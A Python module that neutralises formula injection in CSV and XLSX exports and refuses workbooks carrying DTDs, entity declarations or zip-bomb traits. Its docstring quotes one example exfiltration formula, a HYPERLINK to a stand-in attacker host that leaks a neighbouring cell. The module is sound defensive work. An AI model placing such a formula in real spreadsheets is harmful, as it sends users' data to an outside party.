"""Spreadsheet safety for every CSV and XLSX the application writes or reads.

**Formulas (CSV and XLSX injection).** A cell that begins with `=`, `+`, `-` or `@` (or with
whitespace such as a TAB or CR before one of them, which spreadsheet programs skip) is run as
a formula when a user opens the file: `=HYPERLINK("http://evil.example/?leak="&B2,"Open")`
in a title leaks the neighbouring cell. The two formats are neutralised differently, so each
still reads back unchanged:

- CSV has no cell types, so `csv_cell` prefixes such a value with an apostrophe (`'=1+1`),
  which spreadsheet programs show as text. A value that itself begins with an apostrophe gets
  one too, so the rule can be undone without guessing: `csv_text` (applied by
  `core.importing.read_csv_rows`, hence by every CSV importer) removes exactly one leading
  apostrophe when what follows would be escaped. `csv_text(csv_cell(v)) == v` for every text.
- XLSX has cell types: `xlsx_text` stores the value as it is, as a string cell (never a
  formula cell) with the "quote prefix" style Excel itself uses for text typed after an
  apostrophe, so editing the cell keeps it text. The value needs no escaping and no importer
  has anything to undo.

Every exporter goes through `DictWriter`/`writer` (CSV) or `xlsx_append`/`xlsx_text` (XLSX).

**Reading XLSX.** `open_workbook` is the one way importers open a workbook: a workbook is a
zip of XML parts, and any part with a document type declaration (the carrier of entity
expansion and external entities) is refused before openpyxl parses anything, and whatever
else is broken in the file becomes an `ImportRejected` with the file's name instead of a
traceback.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any
from xml.parsers import expat

from minamata_kb.core.files import UploadRejected, check_archive
from minamata_kb.core.rejections import ImportRejected, RowError

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.workbook.workbook import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

# What spreadsheet programs read as the start of a formula (with the full-width forms).
FORMULA_START = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")


def _needs_quote(text: str) -> bool:
    return text.startswith("'") or text.lstrip()[:1] in FORMULA_START


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: text that a spreadsheet would run as a formula gets a `'`."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def csv_text(text: str) -> str:
    """Undo `csv_cell` on a cell read from a CSV file."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


class _Writer:
    """`csv.writer` that quotes formulas (`csv_cell`) and every cell with a line break.

    The standard writer quotes only the characters of its own line terminator, so with a
    line-feed terminator a cell holding a CR (text typed in a browser has CRLF line breaks)
    went out unquoted and split the row in two on reading. Each row is written with CRLF for
    the quoting decision, then ends with the terminator asked for.
    """

    def __init__(self, out: Any, *, lineterminator: str = "\r\n", **kwargs: Any) -> None:
        self._out = out
        self._end = lineterminator
        self._buf = io.StringIO(newline="")
        self._writer = csv.writer(self._buf, lineterminator="\r\n", **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        self._buf.seek(0)
        self._buf.truncate()
        self._writer.writerow([csv_cell(v) for v in row])
        return self._out.write(self._buf.getvalue()[:-2] + self._end)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> _Writer:
    """`csv.writer` whose every text cell goes through `csv_cell`."""
    return _Writer(out, **kwargs)


class DictWriter(csv.DictWriter):
    """`csv.DictWriter` whose every text cell goes through `csv_cell`."""

    def __init__(
        self,
        f: Any,
        fieldnames: Any,
        restval: Any = "",
        extrasaction: Any = "raise",
        dialect: Any = "excel",
        **kwargs: Any,
    ) -> None:
        super().__init__(f, fieldnames, restval, extrasaction, dialect, **kwargs)
        self.writer = _Writer(f, dialect=dialect, **kwargs)  # type: ignore[assignment]


def xlsx_text(cell: Cell) -> Cell:
    """Make a cell holding text a plain string cell, never a formula."""
    if isinstance(cell.value, str) and _needs_quote(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_append(sheet: Worksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)` with every text cell through `xlsx_text`."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        xlsx_text(cell)


# --- reading -------------------------------------------------------------------------------

MAX_PROLOG_BYTES = 1024 * 1024


class _Doctype(Exception):
    pass


class _RootReached(Exception):
    pass


def _has_doctype(stream: Any) -> bool:
    """Whether the XML in `stream` declares a DTD (read only up to its root element)."""
    parser = expat.ParserCreate()

    def doctype(*_args: Any) -> None:
        raise _Doctype

    def root(*_args: Any) -> None:
        raise _RootReached

    parser.StartDoctypeDeclHandler = doctype
    parser.EntityDeclHandler = doctype
    parser.StartElementHandler = root
    read = 0
    try:
        while read < MAX_PROLOG_BYTES:
            chunk = stream.read(16384)
            read += len(chunk)
            parser.Parse(chunk, not chunk)
            if not chunk:
                return False
    except _Doctype:
        return True
    except (_RootReached, expat.ExpatError):
        return False  # a root element, or not XML at all (openpyxl will say if it matters)
    return True  # a megabyte of prolog is no spreadsheet part


def _reject(filename: str, message: str) -> ImportRejected:
    return ImportRejected([RowError(0, "", message, filename)])


def check_xlsx(data: bytes, filename: str = "") -> None:
    """Refuse a file that is not a zip, unpacks like a zip bomb, or has a part with a DTD."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, OSError, ValueError):
        raise _reject(filename, "not a readable XLSX workbook (not a zip archive)") from None
    try:
        check_archive(data)  # the same entry, size and ratio limits as a DOCX upload
    except UploadRejected as exc:
        archive.close()
        raise _reject(filename, str(exc)) from None
    with archive:
        for info in archive.infolist():
            if info.is_dir():
                continue
            try:
                with archive.open(info) as stream:
                    bad = _has_doctype(stream)
            except Exception as exc:  # noqa: BLE001 - any damage is the same answer
                raise _reject(
                    filename,
                    f"not a readable XLSX workbook (part {info.filename}: "
                    f"{exc.__class__.__name__})",
                ) from None
            if bad:
                raise _reject(
                    filename,
                    f"refused: part {info.filename} declares a DTD (document type "
                    "definitions and entities are not accepted in workbooks)",
                )


@contextmanager
def open_workbook(data: bytes, filename: str = "") -> Iterator[Workbook]:
    """A read-only workbook (values, not formulas); any damage is an `ImportRejected`.

    Errors while iterating the sheets inside the `with` block (openpyxl parses lazily) are
    turned into the same clean refusal.
    """
    from openpyxl import load_workbook

    check_xlsx(data, filename)
    try:
        book = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except Exception as exc:  # noqa: BLE001 - openpyxl raises many kinds on a broken file
        raise _reject(
            filename, f"not a readable XLSX workbook ({exc.__class__.__name__})"
        ) from None
    try:
        yield book
    except ImportRejected:
        raise
    except Exception as exc:  # noqa: BLE001
        raise _reject(
            filename, f"not a readable XLSX workbook ({exc.__class__.__name__}: {exc})"[:300]
        ) from None
    finally:
        book.close()
